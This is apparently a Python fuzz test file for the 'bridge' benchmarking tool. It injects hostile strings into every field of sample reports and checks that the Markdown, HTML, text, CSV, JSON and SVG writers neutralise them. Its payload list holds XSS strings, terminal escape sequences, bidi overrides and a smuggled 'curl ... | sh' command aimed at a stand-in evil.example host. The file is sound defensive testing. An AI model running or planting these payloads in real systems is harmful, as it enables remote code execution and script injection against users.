"""Every writer against hostile text in every string of a report.

Reports from a pool of bases (real runs, a --node run, an imported paste, a
--concurrency run from the fake session, and sections no fixture has, added
by hand) have every free-text string and free-form key rewritten
(tests/fuzz/fields.py, which finds them from the records and the JSON Schema,
so that a new field is covered without being listed): HTML, Markdown
metacharacters, backticks, pipes, controls, bidi overrides, lone surrogates
and very long strings, drawn by Hypothesis. Each report is read as a file is
(bridge.report.schema.load), then written by the terminal table, Markdown,
text, HTML, JSON, compare (each format) and plot (SVG), and what each wrote is
checked for what a reader needs:

- Markdown, read by a CommonMark parser with GitHub's tables and raw HTML
  on: only the elements the view itself writes, no tag from the report; every
  code span closed on its line, every fence closed, every table row with as
  many cells as its header;
- text: no control character, ASCII, 72 columns;
- HTML, read by Python's HTML parser: only the elements and attributes the
  page itself writes, every element closed in order, no script, no URL, no
  event handler, no control character;
- the terminal table and compare: no control character;
- JSON: the report, ASCII;
- CSV (a report's cells, and a comparison's): every row as wide as its
  header, no control character, no text cell a spreadsheet reads as a
  formula;
- SVG: XML, no control character in its text, only bridge's own warnings.

Nothing may raise. The default example counts keep `make test` short;
BRIDGE_FUZZ_SCALE=10 runs ten times as many.
"""

from __future__ import annotations

import copy
import csv
import functools
import io
import json
import os
import re
import shlex
import tempfile
import warnings
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bridge.analysis import compare as comparison
from bridge.cli.common import rendered
from bridge.cli.reports import csv_rows
from bridge.errors import BridgeWarning
from bridge.render import escape
from bridge.render.compare import render as render_compare
from bridge.report import schema
from bridge.view import Detail
from tests.conftest import FIXTURES
from tests.fuzz import fields

SCALE = int(os.environ.get("BRIDGE_FUZZ_SCALE", "1"))
VIEWS = settings(max_examples=10 * SCALE, deadline=None, suppress_health_check=list(HealthCheck))
PICTURES = settings(max_examples=3 * SCALE, deadline=None, suppress_health_check=list(HealthCheck))

# What no writer may print raw: C0 and C1 controls but the newline, DEL, the
# bidi marks, embeddings, overrides and isolates, the line and paragraph
# separators, lone surrogates; and in a picture the noncharacters XML refuses.
RAW = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)
NOT_XML = re.compile(f"{RAW.pattern}|[\ufffe\uffff]")
# The HTML elements the Markdown view writes (lists, headings 3 to 5, bold,
# code, its tables, its folded blocks): any other came from a report.
ELEMENTS = {
    *("p", "ul", "li", "h3", "h4", "h5", "strong", "code", "pre"),
    *("table", "thead", "tbody", "tr", "th", "td", "details", "summary"),
}
BASELINE = FIXTURES / "report-hmac-sha1-v1.json"


# -- the pool of base reports ------------------------------------------------------


def _fixture(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text())


def _provenance(d: dict) -> None:
    """Every text of the settings, the machine and the runtimes' details:
    keys a newer bridge may add (kept as read), the governor, a node's
    probe and agent, a --libcrypto library, the node's start-up."""
    d["settings"]["future_setting"] = "x"
    d["environment"].update(cpu_governor="powersave", future_fact="x")
    for rt in d["runtimes"]:
        rt["future_detail"] = "x"
    erl = next(rt for rt in d["runtimes"] if rt["kind"] == "erlang")
    erl["crypto_info"]["future"] = "x"
    erl["crypto_info_lib"][0]["future"] = "x"
    erl.setdefault("startup", {}).update(dot_erlang_files=["/home/u/.erlang"], future="x")
    erl["libcrypto_dir"] = {
        **{"given": "/opt/ssl", "dir": "/opt/ssl", "file": "/opt/ssl/libcrypto.so.3"},
        **{"soname": "libcrypto.so.3", "version": "OpenSSL 3.5.4", "maps": ["7f00 r-xp"]},
        "future": "x",
    }
    erl["node"] = {
        **{"name": "a@b", "host": "b", "maps_error": "no maps", "future": "x"},
        "cpu": {"model": "m", "arch": "x86_64", "flags": ["sha_ni"], "future": "x"},
        "agent": {"modules": ["m"], "compiled_by": "OTP 25", "max_load": 0.5, "future": "x"},
    }


def _pasted(d: dict) -> None:
    """An imported run's details in full."""
    for rt in d["runtimes"]:
        rt.update(
            **{"built_on": "x", "command": "openssl speed", "compiler": "gcc"},
            **{"cpuinfo": "OPENSSL_ia32cap=0x1", "options": "bn(64,64)", "env": {"A": "b"}},
            **{"libcrypto_loaded": ["/lib/libcrypto.so.3"], "future": "x"},
        )


def _extras() -> dict:
    """run-mix1 with what no fixture holds: scenarios' rarer keys, an
    unsupported result, a verdict's statistic, a fit's implausible sizes, an
    untestable feature and a mask check that says why it was not made, a
    skipped runtime that was asked for, the noise section in full and the
    CPU-time section."""
    d = _fixture("roundtrip/run-mix1.json")
    bad = copy.deepcopy(d["results"][0])
    for key in ("samples", "loops", "output_hex", "ns_per_op", "ops_per_s", "bytes_per_s"):
        bad.pop(key, None)
    d["results"].append({**bad, "size": 1 << 20, "status": "unsupported", "reason": "too big"})
    d["verdicts"][0]["statistic"] = "paired"
    d["fits"][0]["implausible"] = ["16 B: 40% off the line"]
    experiment = d["hardware"]["experiments"][0]
    experiment["untestable"] = {"aes": "cpu-lacks"}
    experiment["mask_check"] = {"ok": None, "note": "no openssl to check with"}
    d["skipped"][0]["requested"] = "--erl"
    _provenance(d)
    # Scenario keys no other base holds: a cipher's, a labelled user call,
    # and keys of a newer bridge (bridge.report.scenario keeps them).
    d["scenarios"][0]["future"] = {"note": "a key of a newer bridge"}
    d["scenarios"].append(
        {
            "name": "time",
            "description": "expressions",
            "kind": "expr",
            "sizes": [16],
            "features": [],
            "calls": {"erlang": []},
            "user_calls": [{"runtime": "erlang", "expr": "crypto:hash(sha, Data)", "label": "sha"}],
        }
    )
    d["scenarios"].append(
        {**copy.deepcopy(d["scenarios"][1]), "name": "gcm", "cipher": "aes-128-gcm"}
    )
    first = d["results"][0]
    d["noise"] = {
        "seconds": 2.0,
        "cpus": 2,
        "busy_processes": [{"pid": 7, "name": "beam.smp", "cpu": 0.5}],
        "cells": [
            {
                **{k: first[k] for k in ("scenario", "runtime", "call_id", "size", "hw")},
                "shape": "bimodal",
                "statistic": 3.1,
                "detail": "two speeds",
                "clusters": [
                    {"share": 0.5, "ns": 100.0, "n": 3},
                    {"share": 0.5, "ns": 200.0, "n": 3},
                ],
            }
        ],
        "warnings": ["other processes used 1.4 of 2 CPUs"],
        "advice": "run again on a quieter machine",
    }
    d["cpu_time"] = {
        "tsc_hz": 2.0e9,
        "tsc_source": "/proc/cpuinfo",
        "limits": [{"algorithm": "sha1", "bytes_per_s": 2.0e9, "source": "openssl speed"}],
        "cells": [
            {
                **{k: first[k] for k in ("scenario", "runtime", "call_id", "size", "hw")},
                "wall_ns": 1000.0,
                "cpu_ns": 900.0,
                "wait_share": 0.1,
                "by_cpu": [{"cpu": 0, "samples": 3, "median_ns": 1000.0}],
                "flag": "waited",
            }
        ],
    }
    # Each reason a not-used or masked verdict can give (bridge.report.whynot),
    # on copies of the first verdict.
    clue = {"source": "library", "sign": "no-capvector", "text": "CPUINFO: N/A"}
    build = {"library": "/lib/libcrypto.so.3", "version": "3.5.7", "evidence": [clue]}
    for why in (
        {"reason": "cpu-lacks", "feature": "sha_ni", "seen_by": "cpuinfo"},
        {"reason": "env-masks", "variable": "OPENSSL_ia32cap", "value": ":~0x20000000"},
        {"reason": "no-asm", **build},
        {"reason": "no-capvector", **build},
        {"reason": "bypasses-evp", "api": "hashlib's built-in sha256"},
    ):
        d["verdicts"].append({**d["verdicts"][0], "verdict": "not-used", "why": why})
    # The reasons of a report with codes (bridge.report.findings): a withheld
    # verdict's, with what to rerun; why a feature cannot be tested.
    busy = {"why": "busy-machine", "others_cpus": 1.6, "cpus": 2, "needs": 2.0}
    gap = {"why": "twin-gap", "gap": 1.4, "scenario": "s", "call_id": "c", "size": 16}
    d["verdicts"].append(
        {
            **d["verdicts"][0],
            "verdict": "inconclusive",
            "reasons": [busy, {**gap, "unit": "bytes"}],
            "rerun": {"option": "--rounds 40", "why": "busy-machine"},
            "margin": 2.0,
        }
    )
    experiment["why"] = {"aes": {"why": "foreign-library", "library": "LibreSSL 3.8"}}
    return d


def _concurrency() -> dict:
    """A --concurrency run (the fake session's), with a failed level cell
    and a warning, as its JSON."""
    from tests.session.test_levels import ERL, OPENSSL, PY, level_plan, run

    outcome, _ = run(level_plan(), [ERL, PY, OPENSSL])
    d = json.loads(schema.dumps(outcome.report))
    cell = d["concurrency"]["cells"][-1]
    for key in ("raw", "output_hex", "output_ok", "children_ops_per_s"):
        cell.pop(key, None)
    cell.update(status="failed", reason="the worker died")
    d["concurrency"]["warnings"] = ["level 2 oversubscribes the CPUs"]
    return d


FIXTURE_BASES = [
    "roundtrip/run-mix1.json",
    "roundtrip/ecdsa-2otp-2openssl.json",
    "report-nodes.json",
    "roundtrip/import-seed.json",
    "terminal/hmac-sha1-quick.json",
    # The findings' own reports: TLS (negotiated parameters, savings), levels
    # (the slowest of N, level 1 against its cell), a library without assembler.
    "../../docs/findings/reports/tls-resume-quick.json",
    "../../docs/findings/reports/tls-handshake-levels-quick.json",
    "../../docs/findings/reports/sha256-noasm-quick.json",
]
BASES = sorted([*FIXTURE_BASES, "extras", "concurrency"])


@functools.cache
def _pool() -> dict[str, dict]:
    """The bases' JSON, made once, when a test first needs it."""
    pool = {name: _fixture(name) for name in FIXTURE_BASES}
    # The notes of a decomposition and of an upgrade (two loaded machines).
    ecdsa = pool["roundtrip/ecdsa-2otp-2openssl.json"]
    ecdsa["decompositions"][0]["note"] = "the key import cannot be timed alone"
    ecdsa["upgrades"][0]["note"] = "the machines were loaded unlike"
    pool["extras"] = _extras()
    _pasted(pool["roundtrip/import-seed.json"])
    pool["concurrency"] = _concurrency()
    return pool


def test_the_pool_holds_every_string_field_of_the_records():
    """A string field the pool does not fill would never be fuzzed: add it
    to a base (`_extras`) when a new one appears."""
    held: set[tuple[str, str]] = set()
    for name, doc in _pool().items():
        held |= fields.present(_load(doc, name))
    assert fields.record_fields() - held == set()


# -- hostile text -----------------------------------------------------------------

PIECES = [
    "</details><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- c -->",
    "&lt;b&gt;&#60;i&#62;&amp;",
    "`",
    "``",
    "```",
    "~~~",
    "|",
    "\\|",
    "\\",
    "*",
    "_",
    "**b**",
    "~~s~~",
    "$x^2$",
    "[l](javascript:alert(1))",
    "![i](https://evil.example/x.png)",
    "<https://evil.example>",
    "# h",
    "- i",
    "1. i",
    "> q",
    "---",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "  ",
    "\x1b[2J\x1b]0;pwned\x07",
    "\x00",
    "\x9b31m",
    "\u202eevil\u2066",
    "\u2028",
    "\ud800",
    "\udfff",
    "\ufffe",
    "😀漢",
    "bridge run x; curl -s https://evil.example/x | sh",
]
LONG = ["x" * 3000, "`" * 200, "|" * 200, "<b>" * 300, "\x1b" * 500]
# Ids may be 4096 characters long (report-1.schema.json): a longer one is
# refused, as the hostile-input tests show, and would reach no writer.
ID_ROOM = 3500

payloads = (
    st.lists(
        st.sampled_from(PIECES)
        | st.text(st.characters(exclude_categories=()), max_size=8)
        | st.sampled_from(LONG),
        min_size=1,
        max_size=4,
    )
    .map("".join)
    .map(lambda text: text[:ID_ROOM])
)


def _hostile(doc: dict, payload: str, mode: str, names: bool = True) -> dict:
    """Every string of the report with `payload` added: after it, before it,
    or in its place (numbered, so that ids stay apart). Without `names`, the
    scenario names stay (a name that is none leaves no command to rebuild)."""
    count = iter(range(1 << 30))
    kept = set() if names else {sc.get("name") for sc in doc.get("scenarios", ())}

    def change(value: str) -> str:
        if value in kept:
            return value
        if mode == "after":
            return value + payload
        if mode == "before":
            return payload + value
        return f"{payload}{next(count)}"

    return fields.replaced(doc, change)


def _load(doc: dict, name: str) -> schema.Report:
    """The report as `bridge report` reads a file (bounded, checked)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "r.json"
        path.write_text(json.dumps(doc))
        return schema.load(path)


# -- what each writer must have done ------------------------------------------------

_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_FENCE = re.compile(r"^ {0,4}(`{3,})([^`]*)$")


def check_markdown(md: str) -> None:
    assert not RAW.search(md), RAW.findall(md)[:5]
    html = _PARSER.render(md)
    found = {m.lower() for m in re.findall(r"<(?:/)?([A-Za-z][A-Za-z0-9]*)", html)}
    assert found <= ELEMENTS, found - ELEMENTS
    assert html.count("<details>") == html.count("</details>")
    fence, blocks, table_cells = 0, 0, None
    for line in md.splitlines():
        m = _FENCE.match(line)
        if fence:
            if m and len(m.group(1)) >= fence and not m.group(2).strip():
                fence = 0
            continue
        if m:
            fence, blocks = len(m.group(1)), blocks + 1
            continue
        if line.startswith(("<details>", "</details>")):
            continue  # raw HTML, where Markdown is not read (its text: md_html)
        assert _spans_closed(line), line
        if line.startswith("|"):
            n = len(escape.md_row_cells(line))
            table_cells = n if table_cells is None else table_cells
            assert n == table_cells, line
        else:
            table_cells = None
    assert fence == 0, "a fence is left open"
    assert html.count("<pre>") == blocks


def _spans_closed(line: str) -> bool:
    """Does every backtick run that opens a code span (outside one, not
    escaped) find its closing run of the same length on the line?"""
    i = 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        if line[i] != "`":
            i += 1
            continue
        n = len(line[i:]) - len(line[i:].lstrip("`"))
        close = re.compile(f"(?<!`)`{{{n}}}(?!`)")
        m = close.search(line, i + n)
        if m is None:
            return False
        i = m.end()
    return True


def _one_command(md: str) -> list[str] | None:
    """The words of the Markdown view's `sh` block, checked to be one command
    of quoted words (each as shlex.quote writes it, or ~/ and a quoted rest):
    no `;`, `|`, `$(...)` or newline of a report's can make it two."""
    m = re.search(r"^(`{3,})sh\n(.*?)\n\1$", md, re.MULTILINE | re.DOTALL)
    if m is None:
        return None
    line = m.group(2)
    assert "\n" not in line, line
    words = shlex.split(line)
    quoted = [
        w[:2] + shlex.quote(w[2:]) if w.startswith("~/") and line.count(w[:2]) else shlex.quote(w)
        for w in words
    ]
    assert " ".join(quoted) == line, line
    return words


def _text_command(text: str) -> list[str] | None:
    """The words of the text view's Reproduce block, as a shell joins its lines."""
    if "\nReproduce:\n" not in text:
        return None
    block = ("\n" + text.split("\nReproduce:\n", 1)[1]).split("\n- ", 1)[0]
    return shlex.split(block.replace("\\\n", "")) or None


# What the HTML page writes (bridge.render.html): any other element or
# attribute came from a report.
HTML_ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "main", "section", "h1", "h2", "h3"),
    *("ul", "li", "span", "p", "div", "table", "thead", "tbody", "tr", "th", "td"),
    *("details", "summary", "pre", "code", "figure", "figcaption"),
    *("svg", "g", "line", "path", "polyline", "circle", "text"),
}
HTML_ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "id", "class", "scope", "open"),
    *("viewbox", "role", "aria-label", "aria-hidden", "xmlns", "width", "height"),
    *("x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "d", "points", "stroke-width"),
    *("text-anchor", "dominant-baseline"),
}
HTML_CLASSES = {
    *("num", "good", "bad", "warn", "muted", "legend", "note", "notes", "answer", "keys"),
    *("verdict", "subject", "scroll", "chart", "grid", "axis", "one", "err", "line"),
    *("dashed", "hollow", "reproduce", *(f"c{i}" for i in range(8))),
}
VOID = {"meta"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.found: set[str] = set()
        self.attributes: set[str] = set()
        self.classes: set[str] = set()

    def _saw(self, tag, attrs):
        self.found.add(tag)
        self.attributes |= {k for k, _ in attrs}
        self.classes |= {c for k, v in attrs if k == "class" for c in (v or "").split()}

    def handle_starttag(self, tag, attrs):
        self._saw(tag, attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._saw(tag, attrs)

    def handle_endtag(self, tag):
        assert self.open and self.open[-1] == tag, (self.open[-3:], tag)
        self.open.pop()


def check_html(page: str) -> None:
    assert not NOT_XML.search(page), NOT_XML.findall(page)[:5]
    parser = _Elements()
    parser.feed(page)
    parser.close()
    assert parser.open == []
    assert parser.found <= HTML_ELEMENTS, parser.found - HTML_ELEMENTS
    assert parser.attributes <= HTML_ATTRIBUTES, parser.attributes - HTML_ATTRIBUTES
    assert "<script" not in page.lower()
    # A report's text is text: no class of its own either.
    assert parser.classes <= HTML_CLASSES, parser.classes - HTML_CLASSES


def check_text(text: str) -> None:
    assert not RAW.search(text), RAW.findall(text)[:5]
    assert text.isascii()
    assert max(map(len, text.splitlines())) <= 72


def check_plain(text: str) -> None:
    assert not RAW.search(text), RAW.findall(text)[:5]


SGR = re.compile(r"\x1b\[[0-9;]*m")
# What a spreadsheet takes for a formula at the start of a cell (OWASP).
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def check_csv(text: str) -> None:
    assert not RAW.search(text.replace("\n", "")), RAW.findall(text)[:5]
    header, *rows = csv.reader(io.StringIO(text))
    assert len(text.splitlines()) == len(rows) + 1  # one line per row: no break in a cell
    for row in rows:
        assert len(row) == len(header), row
        for value in row:
            if value.startswith(FORMULA):
                float(value)  # a number ("-1.5") may; text may not


def check_every_writer(report: schema.Report, label: str) -> None:
    check_csv(rendered("csv", report))
    table = rendered("table", report, width=80)
    check_plain(table)
    # In colour: the same view with bridge's own SGR escapes around some of it.
    assert SGR.sub("", rendered("table", report, width=80, colour=True)) == table
    check_plain(rendered("table", report, Detail.VERBOSE, width=100))
    check_plain(rendered("summary", report))
    check_html(rendered("html", report))
    check_html(rendered("html", report, Detail.VERBOSE))
    md, text = rendered("markdown", report), rendered("text", report)
    check_markdown(md)
    check_text(text)
    # The command to paste: one command, the same words in both views (the
    # text view, ASCII only, leaves out one that names a path outside it).
    command, said = _one_command(md), _text_command(text)
    assert said == command or (said is None and not all(w.isascii() for w in command))
    dumped = rendered("json", report)
    assert dumped.isascii() and json.loads(dumped)["schema"] == schema.SCHEMA
    both = comparison.compare([schema.load(BASELINE), report], ["base.json", label])
    check_markdown(render_compare(both, "markdown"))
    check_plain(render_compare(both, "text"))
    check_plain(render_compare(both, "table"))
    check_html(render_compare(both, "html"))
    json.loads(render_compare(both, "json"))
    check_csv(csv_rows([schema.load(BASELINE), report], ["base.json", label]))


def check_picture(report: schema.Report, label: str) -> None:
    from bridge.render import plot

    with tempfile.TemporaryDirectory() as tmp, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        out = Path(tmp) / "p.svg"
        try:
            plot.plot([(label, report)], out)
        except Exception as exc:
            # A report with nothing to draw (no throughput) says so in one line.
            assert "nothing to plot" in str(exc), exc
            return
        root = ET.parse(out).getroot()
    drawn = "".join(t for e in root.iter() for t in (e.text or "", e.tail or ""))
    assert not NOT_XML.search(drawn)
    assert all(issubclass(w.category, BridgeWarning) for w in caught), [
        str(w.message)[:80] for w in caught
    ]
    assert all(not RAW.search(str(w.message)) for w in caught)


# -- the tests ------------------------------------------------------------------------


@pytest.mark.parametrize("names", [True, False], ids=["names too", "names kept"])
@pytest.mark.parametrize("name", BASES)
def test_every_string_of_every_base_is_hostile_at_once(name, names):
    """Each base with every string ending in all the pieces at once (apart:
    a backtick run of each length)."""
    doc = _hostile(_pool()[name], " ".join(PIECES), "after", names)
    check_every_writer(_load(doc, name), " ".join(PIECES))


@VIEWS
@given(
    st.sampled_from(BASES),
    payloads,
    st.sampled_from(["after", "before", "instead"]),
    st.booleans(),
)
def test_hostile_strings_in_every_field_reach_no_writer_raw(name, payload, mode, names):
    check_every_writer(_load(_hostile(_pool()[name], payload, mode, names), name), payload)


@PICTURES
@given(st.sampled_from(BASES), payloads, st.sampled_from(["after", "before", "instead"]))
def test_hostile_strings_draw_as_text_in_an_svg(name, payload, mode):
    pytest.importorskip("matplotlib")
    check_picture(_load(_hostile(_pool()[name], payload, mode), name), payload)
